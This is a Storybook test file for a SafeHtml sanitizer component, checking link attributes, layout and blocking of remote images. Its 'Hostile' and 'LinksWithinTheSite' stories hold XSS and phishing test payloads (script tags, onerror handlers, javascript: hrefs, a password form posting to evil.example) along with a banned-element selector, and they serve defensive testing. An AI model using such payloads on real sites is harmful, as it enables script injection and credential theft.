import { Box } from '@mantine/core';
import { expect } from 'storybook/test';
import { RemoteImages } from '@/components/text/remote-images';
import { SafeHtml } from '@/components/text/safe-html';
import preview from '../../.storybook/preview';
import { expectPageFits } from '../support/page-fits';
import { longNepali } from '../support/texts';
import { journey } from './texts';

const meta = preview.meta({
  title: 'Kit/Safe HTML',
  tags: ['autodocs'],
  component: SafeHtml,
  decorators: [
    (Story) => (
      <Box p="md" maw={640}>
        <Story />
      </Box>
    ),
  ],
});

export const Default = meta.story({
  args: { html: journey },
  play: async ({ canvas }) => {
    const link = canvas.getByRole('link', { name: 'permit office' });
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(link).toHaveAttribute('target', '_blank');
    await expect(canvas.getByText('Day 2')).toHaveStyle({ textAlign: 'center' });
  },
});

export const Hostile = meta.story({
  args: {
    html: `<h2 onclick="alert(1)" style="position:fixed;inset:0">Title</h2>
      <form action="https://evil.example"><input name="password"><button>Sign in</button></form>
      <style>body { display: none }</style><script>alert(1)</script><iframe src="https://evil.example"></iframe>
      <svg><a href="javascript:alert(1)"><text>svg</text></a></svg><math><mtext>math</mtext></math>
      <img src="x" onerror="alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">
      <a href="javascript:alert(1)">one</a> <a href="&#106;avascript:alert(1)">two</a>
      <a href="data:text/html,x">three</a> <a href="//evil.example/logout">four</a> <a href="tel:+977123">five</a>
      <p data-align="center" id="root" name="x">kept</p>`,
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByRole('heading', { name: 'Title' }).getAttributeNames()).toEqual([]);
    const banned =
      'form, input, button, style, script, iframe, svg, math, img, [onerror], [style], [id="root"][name]';
    await expect(canvas.getByText('kept').parentElement?.querySelector(banned)).toBeNull();
    await expect(canvas.getAllByRole('link').map((link) => link.textContent)).toEqual(['five']);
    await expect(canvas.getByText('kept').getAttributeNames()).toEqual([]);
    await expect(canvasElement).toHaveTextContent('one two three four five');
  },
});

export const LinksWithinTheSite = meta.story({
  args: {
    html: `<a href="/blogs/tea?page=2#cups">Tea</a> <a href="/\\evil.example">one</a> <a href="//evil.example">two</a>
      <a href="#cups">three</a>`,
  },
  play: async ({ canvas }) => {
    const link = canvas.getByRole('link', { name: 'Tea' });
    await expect(link).toHaveAttribute('href', `${location.origin}/blogs/tea?page=2#cups`);
    await expect(link).toHaveAttribute('target', '_blank');
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(canvas.getAllByRole('link')).toHaveLength(1);
  },
});

export const Wide = meta.story({
  globals: { viewport: { value: 'phone' } },
  args: {
    html: `<p>${'अनुभवीपथप्रदर्शक'.repeat(30)}</p><p>${longNepali}</p><pre>${'pre '.repeat(100)}</pre>
      <table><tr>${`<td>${'Namche'.repeat(4)}</td>`.repeat(12)}</tr></table>`,
  },
  play: expectPageFits,
});

export const ImagesHeldBack = meta.story({
  args: {
    html: '<p>Rapids <img src="https://pixel.example/1.png" alt="A raft"> and a beach.</p><img src="https://pixel.example/2.png">',
  },
  decorators: [
    (Story) => (
      <RemoteImages value="ask">
        <Story />
      </RemoteImages>
    ),
  ],
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('button', { name: 'Show 2 images from other hosts' })).toBeVisible();
    await expect(canvas.getByText('Image from pixel.example: A raft')).toBeVisible();
  },
});

export const Empty = meta.story({ args: { html: null } });
